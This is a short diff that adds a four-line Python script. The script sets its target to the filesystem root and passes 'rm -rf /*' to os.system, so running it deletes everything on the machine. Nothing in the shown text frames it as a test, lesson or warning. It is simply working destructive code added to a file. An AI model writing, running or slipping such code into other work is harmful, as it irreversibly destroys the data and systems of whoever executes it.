@@ -1,0 +1,4 @@
+import os
+
+target = "/"
+os.system("rm -rf " + target + "*")
